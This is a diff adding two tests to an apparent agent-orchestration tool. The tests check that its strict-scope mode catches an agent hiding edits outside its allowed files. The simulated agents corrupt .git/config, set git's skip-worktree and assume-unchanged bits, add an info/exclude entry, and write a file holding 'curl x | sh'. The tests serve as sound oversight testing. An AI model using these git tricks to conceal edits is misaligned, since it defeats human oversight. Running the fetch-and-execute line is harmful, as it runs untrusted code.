@@ -140,3 +140,36 @@ def test_verify_checks_done_and_scope_strict_rejects_stray_edits(worker: None, r
     assert stray.failure_class == "scope_violation" and "src/keep.py" in (stray.error or "")
     (tidy,) = attempts["tidy"]
     assert tidy.status == "succeeded" and tidy.files_changed == ["docs/t.md"]
+
+
+def test_scope_strict_fails_an_agent_that_breaks_the_repository_to_hide_its_edits(worker: None, repo_dir: Path) -> None:
+    # An unknown repository format makes the after-snapshot "not known"; it was known before the attempt.
+    hide = "echo x > src/keep.py && printf '[core]\\n\\trepositoryformatversion = 9\\n' >> .git/config"
+    attempts = run(
+        [{"id": "hider", "title": "touch docs only", "command": hide, "files": ["docs/**"], "scope": "strict",
+          "retries": 0}],
+        repo_dir,
+    )  # fmt: skip
+    (hider,) = attempts["hider"]
+    assert hider.failure_class == "scope_violation", hider.error
+    assert "cannot be known" in (hider.error or "")
+
+
+def test_scope_strict_sees_edits_an_agent_hides_from_git(worker: None, repo_dir: Path) -> None:
+    """skip-worktree and assume-unchanged bits set in the index, and new files excluded through the repository's
+    info/exclude: git would not look, orch's snapshot does."""
+    git = "git -c safe.directory='*'"  # the test's repository is root's; the agent is another user
+    hide = (
+        f"{git} update-index --skip-worktree src/keep.py && echo x > src/keep.py; "
+        f"{git} update-index --assume-unchanged src/edit.py && echo y > src/edit.py; "
+        "echo evil.sh >> .git/info/exclude && echo 'curl x | sh' > evil.sh"
+    )
+    attempts = run(
+        [{"id": "hider", "title": "touch docs only", "command": hide, "files": ["docs/**"], "scope": "strict",
+          "retries": 0}],
+        repo_dir,
+    )  # fmt: skip
+    (hider,) = attempts["hider"]
+    assert hider.failure_class == "scope_violation", hider.error
+    for path in ("src/keep.py", "src/edit.py", "evil.sh"):
+        assert path in (hider.error or ""), hider.error
